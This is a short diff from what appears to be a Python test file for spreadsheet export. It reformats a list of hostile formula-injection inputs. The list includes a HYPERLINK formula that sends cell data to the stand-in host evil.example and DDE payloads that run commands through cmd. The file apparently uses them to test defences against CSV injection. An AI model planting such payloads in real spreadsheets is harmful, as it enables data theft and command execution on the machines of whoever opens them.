@@ -20,7 +20,7 @@ pytestmark = pytest.mark.asyncio
 
 ACME = "3f6c2b9e-8d4a-4e7b-9c1d-2a5e8f7b6c01"
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+SUM(1,2)",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
